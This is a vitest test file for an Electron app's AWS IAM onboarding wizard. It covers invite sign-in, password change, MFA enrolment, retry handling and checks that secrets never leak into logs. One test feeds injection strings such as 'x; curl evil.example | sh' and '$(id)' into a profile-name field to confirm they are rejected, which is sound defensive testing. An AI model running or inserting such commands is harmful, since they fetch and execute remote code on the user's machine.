import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { composeApp } from '../../../../electron/app/compose';
import { encryptInvite } from '../../../../electron/invites/invite-codec';
import { dispatch } from '../../../../electron/ipc/dispatch';
import type { HandlerTable } from '../../../../electron/ipc/handler-types';
import { createLogger } from '../../../../electron/logging/logger';
import { createNodePorts } from '../../../../electron/platform/node-ports';
import type { AppErrorShape } from '../../../../src/shared/errors/app-error';
import { startSandbox, stepAt, totpAtStep, type NewUserResult, type Sandbox } from '../../../sandbox/index';
import { invitePayloadFor } from '../../../e2e/support/onboarding-invite';

const NEW_PASSWORD = 'Blue-Harbor-Lantern-42';
/**
 * The real time, moved on a millisecond at every read, as a real clock may between two reads: an
 * offset computed from two reads (`serverClock.now() - clock.now()`) is then off by one every
 * time, not one run in five, so the test below fails on it instead of flaking.
 */
const tickingClock = () => {
  let reads = 0;
  return { now: () => Date.now() + ++reads };
};
let sandbox: Sandbox;
let logLines: string[];
let outputs: unknown[];
let handlers: HandlerTable;
let ports: ReturnType<typeof createNodePorts>;

beforeEach(async () => {
  sandbox = await startSandbox({ accountAlias: 'acme-prod' });
  logLines = [];
  outputs = [];
  const { AWS_ACCESS_KEY_ID: _k, AWS_SECRET_ACCESS_KEY: _s, ...env } = sandbox.env;
  ports = createNodePorts();
  handlers = composeApp({
    platform: ports,
    log: createLogger((l) => logLines.push(l)),
    env,
    info: { version: 'test', platform: 'test' },
    maxAttempts: 2,
    clock: tickingClock(),
  }).handlers;
});
afterEach(async () => sandbox.stop());

async function call(channel: string, payload: unknown): Promise<{ ok: true; value: Record<string, unknown> } | { ok: false; error: AppErrorShape }> {
  const r = await dispatch(handlers, channel, payload, { emit: () => {} }, createLogger((l) => logLines.push(l)));
  outputs.push(r);
  return r as never;
}
async function ok(channel: string, payload: unknown = {}): Promise<Record<string, unknown>> {
  const r = await call(channel, payload);
  if (!r.ok) throw new Error(`${channel}: ${JSON.stringify(r.error)}`);
  return r.value;
}
async function fails(channel: string, payload: unknown = {}): Promise<AppErrorShape> {
  const r = await call(channel, payload);
  if (r.ok) throw new Error(`${channel} should have failed`);
  return r.error;
}

async function signIn(user: NewUserResult, overrides = {}) {
  const invite = await encryptInvite(invitePayloadFor(sandbox, user, overrides), user.password);
  return call('onboarding:signIn', { method: 'invite', inviteBase64: Buffer.from(invite).toString('base64'), temporaryPassword: user.password });
}
const seedOf = (userName: string) => {
  const d = sandbox.state.listVirtualMfaDevices().find((x) => x.serialNumber.endsWith(`/${userName}`))!;
  return sandbox.state.getVirtualMfaSeed(d.serialNumber)!;
};
const now = () => stepAt(Date.now());

describe('onboarding handlers against the sandbox', () => {
  it('a complete run leaks no secret into any output or log line, and wipes the session at the end', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    expect(await signIn(user)).toMatchObject({ ok: true, value: { step: 'password', identity: { userName: 'jdoe', accountId: sandbox.accountId } } });
    await ok('onboarding:passwordPolicy');
    await ok('onboarding:changePassword', { newPassword: NEW_PASSWORD });
    const start = await ok('onboarding:startMfa');
    // The sandbox's clock is this machine's: the countdown runs on AWS time with no offset.
    expect(start.serverOffsetMs).toBe(0);
    expect(await ok('onboarding:startMfa')).toEqual(start); // idempotent: the same device, no second call
    expect(sandbox.requestLog.filter((e) => e.action === 'CreateVirtualMFADevice')).toHaveLength(1);
    const seed = seedOf('jdoe');
    const key = (await ok('onboarding:showMfaKey')).key as string;
    expect(key.replace(/ /g, '')).toBe(seed);
    await ok('onboarding:enableMfa', { code1: totpAtStep(seed, now() - 2), code2: totpAtStep(seed, now() - 1) });
    // The code just consumed by EnableMFADevice is caught locally, without a call.
    expect(await fails('onboarding:proveMfa', { code: totpAtStep(seed, now() - 1) })).toMatchObject({ code: 'onboarding.codeAlreadyUsed' });
    expect(sandbox.requestLog.filter((e) => e.action === 'GetSessionToken')).toHaveLength(0);
    await ok('onboarding:proveMfa', { code: totpAtStep(seed, now()) });
    // "Prove it" closed the onboarding window with the MFA session; the invite's expiry policy is now inert.
    expect(sandbox.state.getUser('jdoe')?.tags).not.toHaveProperty('iam-onboarding-window');
    expect(await ok('onboarding:finish', { keepCliAccess: false })).toEqual({
      consoleUrl: 'https://acme-prod.signin.aws.amazon.com/console',
      keyDeleted: true,
      windowClosed: true,
      profile: null,
    });
    expect(sandbox.state.listAccessKeys('jdoe')).toEqual([]);

    const everything = JSON.stringify(outputs.filter((o) => !JSON.stringify(o).includes('"key"'))) + logLines.join('\n');
    for (const secret of [user.password, NEW_PASSWORD, user.secretAccessKey!, seed]) expect(everything).not.toContain(secret);
    const session = sandbox.state.listSessions()[0]!;
    expect(everything).not.toContain(session.accessKeyId);
    // After finish, nothing is held: every step answers "not signed in".
    for (const ch of ['onboarding:showMfaKey', 'onboarding:passwordPolicy', 'onboarding:startMfa']) {
      expect(await fails(ch)).toMatchObject({ code: 'onboarding.notSignedIn' });
    }
  });

  it('an invite whose key belongs to another user is an error, and nothing is kept', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    const r = await signIn(user, { userName: 'someone-else' });
    expect(r).toMatchObject({ ok: false, error: { code: 'onboarding.userMismatch', params: { expected: 'someone-else', actual: 'jdoe' } } });
    expect(await fails('onboarding:passwordPolicy')).toMatchObject({ code: 'onboarding.notSignedIn' });
    const other = await signIn(user, { accountId: '999999999999' });
    expect(other).toMatchObject({ ok: false, error: { code: 'onboarding.accountMismatch' } });
  });

  it('lost answers are recognised on retry: ChangePassword, EnableMFADevice and DeleteAccessKey each end done, never doubled', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    await signIn(user);
    await ok('onboarding:passwordPolicy');
    sandbox.faults.set('ChangePassword', { drop: { times: 1, after: true } });
    expect(await ok('onboarding:changePassword', { newPassword: NEW_PASSWORD })).toEqual({ changed: true, alreadyChanged: true });
    expect(sandbox.state.checkPassword('jdoe', NEW_PASSWORD)).toBe(true);

    await ok('onboarding:startMfa');
    const seed = seedOf('jdoe');
    sandbox.faults.set('EnableMFADevice', { drop: { times: 1, after: true } });
    await ok('onboarding:enableMfa', { code1: totpAtStep(seed, now() - 2), code2: totpAtStep(seed, now() - 1) });
    expect(sandbox.state.listMfaDevices('jdoe')).toHaveLength(1);

    await ok('onboarding:proveMfa', { code: totpAtStep(seed, now()) });
    sandbox.faults.set('DeleteAccessKey', { drop: { times: 1, after: true } });
    expect(await ok('onboarding:finish', { keepCliAccess: false })).toMatchObject({ keyDeleted: true });
    expect(sandbox.state.listAccessKeys('jdoe')).toEqual([]);
    expect(sandbox.state.listVirtualMfaDevices()).toHaveLength(1);
  });

  it('a wrong temporary password typed by hand: AWS\'s AccessDenied does not say why, and the message names both causes', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    await ok('onboarding:signIn', {
      method: 'manual',
      accountId: sandbox.accountId,
      userName: 'jdoe',
      accessKeyId: user.accessKeyId,
      secretAccessKey: user.secretAccessKey,
      temporaryPassword: 'Not-The-Temporary-1',
    });
    expect(await fails('onboarding:changePassword', { newPassword: NEW_PASSWORD })).toMatchObject({ code: 'onboarding.wrongPasswordOrRefused' });
    expect(await fails('onboarding:changePassword', { newPassword: 'Not-The-Temporary-1' })).toMatchObject({ code: 'onboarding.sameAsTemporary' });
    expect(sandbox.state.checkPassword('jdoe', user.password)).toBe(true);
  });

  it('throttled until the SDK gives up: a retryable message; the retry then succeeds', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    await signIn(user);
    sandbox.faults.set('GetAccountPasswordPolicy', { error5xx: { times: 2, status: 503 } });
    expect(await fails('onboarding:passwordPolicy')).toEqual({ code: 'onboarding.awsTemporary', retryable: true });
    expect(await ok('onboarding:passwordPolicy')).toMatchObject({ source: 'awsDefaultUnset' });
  });

  it('an MFA device assigned by someone else while the password was still temporary: never deleted, the wizard skips to "prove it"', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true, withMfa: true });
    expect(await signIn(user)).toMatchObject({ ok: true, value: { step: 'password' } });
    await ok('onboarding:changePassword', { newPassword: NEW_PASSWORD });
    expect(await fails('onboarding:startMfa')).toMatchObject({ code: 'onboarding.mfaAlreadyEnabled' });
    expect(sandbox.state.listMfaDevices('jdoe')).toHaveLength(1);
    await ok('onboarding:proveMfa', { code: totpAtStep(user.mfa!.base32Seed, now()) });
    expect(await ok('onboarding:finish', { keepCliAccess: false })).toMatchObject({ keyDeleted: true });
  });

  it('onboarding not open (finished, expired or never opened): registering a device is refused with a message to ask the admin, and nothing is created', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true, onboardingWindow: false, passwordResetRequired: false });
    await signIn(user);
    expect(await fails('onboarding:startMfa')).toMatchObject({ code: 'onboarding.mfaDenied', params: { action: 'iam:CreateVirtualMFADevice' } });
    expect(sandbox.state.listVirtualMfaDevices()).toEqual([]);
  });

  it('the finish screen\'s command is built in main from a profile name; a crafted name never reaches the clipboard', async () => {
    expect(await ok('onboarding:copyCliCommand', { profile: 'jdoe-acme-prod-2' })).toEqual({ copied: true });
    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
    expect(ports.clipboard.concealed()).toBe(false);
    for (const profile of ['x; curl evil.example | sh', 'a\nb', '$(id)', '', 'x'.repeat(129)]) {
      expect((await fails('onboarding:copyCliCommand', { profile })).code, profile).toBe('ipc.invalidInput');
    }
    expect(ports.clipboard.read()).toBe('aws sts get-caller-identity --profile jdoe-acme-prod-2');
  });

  it('cancel wipes the session', async () => {
    const user = sandbox.scenario.newUser({ userName: 'jdoe', attachEnforcementPolicy: true });
    await signIn(user);
    await ok('onboarding:cancel');
    expect(await fails('onboarding:changePassword', { newPassword: NEW_PASSWORD })).toMatchObject({ code: 'onboarding.notSignedIn' });
  });
});
